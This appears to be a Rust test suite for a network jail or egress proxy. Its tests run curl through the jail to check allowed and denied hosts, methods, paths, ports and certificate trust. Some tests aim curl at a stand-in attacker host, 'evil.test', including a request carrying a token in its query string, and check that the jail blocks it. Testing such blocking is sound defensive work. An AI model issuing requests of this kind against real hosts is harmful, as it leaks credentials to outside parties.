//! curl: what goes through, what is refused, and how the refusal reads.

use http::Version;

use crate::support::{Jail, Server, both_ways, without_proxy};

/// Quiet but for errors, within a bound.
const CURL: [&str; 4] = ["curl", "-sS", "--max-time", "30"];

fn curl<'a>(arguments: &[&'a str]) -> Vec<&'a str> {
    [&CURL[..], arguments].concat()
}

#[test]
fn an_allowed_host_is_reached_with_and_without_the_proxy_s_variables() {
    needs!("curl");
    let server = Server::https("api.test");
    let jail = Jail::new().host("curl").allow("api.test").upstream(&server);
    let command =
        curl(&["-w", "\npeer=%{remote_ip}\nversion=%{http_version}\n", "https://api.test/echo?x=1"]);
    for (command, peer) in both_ways(&command).into_iter().zip(["127.0.0.1", "44.128."]) {
        let ended = jail.run(command);
        ended.succeeds().allowed("api.test:443", 1).denied_nothing().swapped_nothing();
        assert!(ended.value("peer").starts_with(peer), "{ended}");
        assert_eq!(ended.value("version"), "2", "{ended}");
        let seen = server.last();
        assert_eq!(
            (seen.version, seen.method.as_str(), seen.path.as_str()),
            (Version::HTTP_2, "GET", "/echo")
        );
        assert_eq!((seen.host.as_str(), seen.query.as_str()), ("api.test", "x=1"));
    }
}

#[test]
fn each_side_speaks_the_version_it_likes() {
    needs!("curl");
    let (new, old) = (Server::https("new.test"), Server::https1("old.test"));
    let jail = Jail::new().allow("new.test").allow("old.test").upstream(&new).upstream(&old);
    for host in ["new.test", "old.test"] {
        for version in ["--http1.1", "--http2"] {
            let url = format!("https://{host}/echo");
            let ended = jail.run(curl(&[version, "-w", "\nversion=%{http_version}\n", &url]));
            let spoken = if version == "--http2" { "2" } else { "1.1" };
            assert_eq!(ended.succeeds().value("version"), spoken, "{ended}");
        }
    }
    assert!(old.requests().iter().all(|seen| seen.version == Version::HTTP_11));
    assert!(new.requests().iter().any(|seen| seen.version == Version::HTTP_2));
}

#[test]
fn plain_http_needs_a_rule_that_says_so() {
    needs!("curl");
    let server = Server::http("plain.test");
    let command = curl(&["-i", "http://plain.test/echo"]);
    let jail = Jail::new().host("curl").allow("http://plain.test").upstream(&server);
    for command in both_ways(&command) {
        jail.run(command).succeeds().prints("200 OK").allowed("plain.test:80", 1);
    }
    assert_eq!(server.requests().len(), 2);
    let jail = Jail::new().host("curl").allow("plain.test").upstream(&server);
    for command in both_ways(&command) {
        jail.run(command).succeeds().prints("x-jail-deny: scheme-not-allowed");
    }
    assert_eq!(server.requests().len(), 2);
}

#[test]
fn http2_without_tls_is_captured() {
    needs!("curl");
    let server = Server::http("plain.test");
    let command =
        curl(&["--http2-prior-knowledge", "-w", "\nversion=%{http_version}\n", "http://plain.test/echo"]);
    let jail = Jail::new().host("curl").allow("http://plain.test").upstream(&server);
    let ended = jail.run(without_proxy(&command));
    assert_eq!(ended.succeeds().allowed("plain.test:80", 1).value("version"), "2", "{ended}");
    let command = curl(&["--http2-prior-knowledge", "-i", "http://evil.test/echo"]);
    jail.run(without_proxy(&command))
        .prints("x-jail-deny: host-not-allowed")
        .denied("evil.test:80", "host-not-allowed");
}

#[test]
fn a_posted_body_arrives_whole() {
    needs!("curl");
    let server = Server::https("api.test");
    let body = vec![b'x'; 1_000_000];
    let jail = Jail::new().allow("POST https://api.test/echo").upstream(&server).input(body);
    for version in ["--http1.1", "--http2"] {
        jail.run(curl(&[version, "-X", "POST", "--data-binary", "@-", "https://api.test/echo"])).succeeds();
        let seen = server.last();
        assert_eq!((seen.method.as_str(), seen.body), ("POST", 1_000_000));
    }
}

#[test]
fn a_long_answer_arrives_whole() {
    needs!("curl");
    let server = Server::https("api.test");
    let jail = Jail::new().allow("api.test").upstream(&server);
    let ended = jail.run(curl(&["https://api.test/bytes/10000000"]));
    ended.succeeds();
    let expected: Vec<u8> = (0..10_000_000_usize).map(|position| (position % 251) as u8).collect();
    assert!(ended.stdout == expected, "{} bytes came, or others than were sent", ended.stdout.len());
}

#[test]
fn a_denied_host_answers_with_the_reason_inside_https() {
    needs!("curl");
    let server = Server::https_for(&["api.test", "evil.test"]);
    let jail = Jail::new().host("curl").allow("api.test").upstream(&server);
    for command in both_ways(&curl(&["-i", "https://evil.test/x?token=abc"])) {
        let ended = jail.run(command);
        ended
            .succeeds()
            .prints("403")
            .prints("x-jail-deny: host-not-allowed")
            .denied("evil.test:443", "host-not-allowed");
        let text = ended.text();
        let body: serde_json::Value = serde_json::from_str(text.rsplit("\r\n\r\n").next().unwrap()).unwrap();
        assert_eq!(
            (&body["error"], &body["reason"]),
            (&"denied".into(), &"host-not-allowed".into()),
            "{ended}"
        );
        assert_eq!((&body["method"], &body["path"]), (&"GET".into(), &"/x".into()), "{ended}");
        assert!(body["hint"].as_str().is_some_and(|hint| !hint.is_empty()), "{ended}");
        assert!(
            !ended.audit.iter().any(|event| event.to_string().contains("abc")),
            "a query's value is kept{ended}"
        );
    }
    assert_eq!(server.connections(), 0, "a denied request reached the server");
    jail.run(curl(&["https://api.test/echo"])).succeeds().allowed("api.test:443", 1);
}

#[test]
fn a_denied_head_has_no_body_in_any_version() {
    needs!("curl");
    let jail = Jail::new().host("curl").allow("api.test");
    for version in ["--http1.1", "--http2"] {
        for command in both_ways(&curl(&["-I", version, "https://evil.test/"])) {
            jail.run(command).succeeds().prints("x-jail-deny: host-not-allowed");
        }
    }
}

#[test]
fn a_denied_method_or_path_answers_with_the_reason() {
    needs!("curl");
    let server = Server::https("api.test");
    let jail = Jail::new()
        .allow("GET,HEAD https://api.test/echo")
        .allow("GET https://api.test/bytes/*")
        .upstream(&server);
    jail.run(curl(&["https://api.test/echo"])).succeeds().allowed("api.test:443", 1);
    jail.run(curl(&["-I", "https://api.test/echo"])).succeeds().allowed("api.test:443", 1);
    jail.run(curl(&["https://api.test/bytes/5"])).succeeds().allowed("api.test:443", 1);
    let before = server.requests().len();
    for (arguments, reason) in [
        (&["-d", "x", "https://api.test/echo"][..], "method-not-allowed"),
        (&["-X", "DELETE", "https://api.test/bytes/5"], "method-not-allowed"),
        (&["https://api.test/other"], "path-not-allowed"),
        (&["https://api.test/bytes/5/6"], "path-not-allowed"),
    ] {
        let ended = jail.run(curl(&[&["-i"], arguments].concat()));
        ended.succeeds().prints(&format!("x-jail-deny: {reason}")).denied("api.test:443", reason);
    }
    assert_eq!(server.requests().len(), before);
}

#[test]
fn what_is_denied_is_denied_though_it_is_allowed_too() {
    needs!("curl");
    let server = Server::https("api.test");
    let jail = Jail::new().allow("api.test").deny("https://api.test/status/**").upstream(&server);
    jail.run(curl(&["https://api.test/echo"])).succeeds().allowed("api.test:443", 1);
    jail.run(curl(&["-i", "https://api.test/status/200"]))
        .prints("x-jail-deny: denied-by-rule")
        .denied("api.test:443", "denied-by-rule");
}

#[test]
fn a_star_allows_sub_domains_only() {
    needs!("curl");
    let server = Server::https_for(&["a.api.test", "api.test", "a.b.api.test"]);
    let jail = Jail::new().allow("*.api.test").upstream(&server);
    jail.run(curl(&["https://a.api.test/echo"])).succeeds().allowed("a.api.test:443", 1);
    jail.run(curl(&["-i", "https://api.test/echo"])).denied("api.test:443", "host-not-allowed");
}

#[test]
fn an_address_is_captured_as_a_name_is() {
    needs!("curl");
    let jail = Jail::new().host("curl").allow("api.test");
    for url in ["https://192.0.2.7/", "https://[2001:db8::7]/", "http://192.0.2.7/"] {
        let authority = match url {
            "https://192.0.2.7/" => "192.0.2.7:443",
            "http://192.0.2.7/" => "192.0.2.7:80",
            _ => "[2001:db8::7]:443",
        };
        let ended = jail.run(without_proxy(&curl(&["-i", url])));
        ended.succeeds().prints("x-jail-deny: host-not-allowed").denied(authority, "host-not-allowed");
    }
}

#[test]
fn a_port_that_no_rule_names_is_refused_by_the_kernel() {
    needs!("curl");
    let server = Server::https("api.test");
    let jail = Jail::new().host("curl").allow("api.test").allow("api.test:8443").upstream(&server);
    let ended = jail.run(without_proxy(&curl(&["https://api.test:4443/echo"])));
    ended.exits(7).denied_nothing();
    // A port that a rule names is served: there is an answer, if only that nobody is there.
    let ended = jail
        .options(["--connect-to", "api.test:8443:127.0.0.1:1"])
        .run(without_proxy(&curl(&["-i", "https://api.test:8443/echo"])));
    ended.succeeds().prints("502").prints("x-jail-error");
}

#[test]
fn a_server_that_is_not_trusted_is_not_spoken_to() {
    needs!("curl");
    let (server, other) = (Server::https("api.test"), Server::https("api.test"));
    let to = format!("api.test:443:{}", server.address());
    let jail = Jail::new().allow("api.test").options(["--connect-to", &to]);
    jail.trust(&other)
        .run(curl(&["-i", "https://api.test/echo"]))
        .succeeds()
        .prints("502")
        .prints("x-jail-error");
    assert_eq!(server.requests().len(), 0);
    let jail = Jail::new().allow("api.test").options(["--connect-to", &to]);
    jail.trust(&server).run(curl(&["-i", "https://api.test/echo"])).succeeds().prints("200");
}
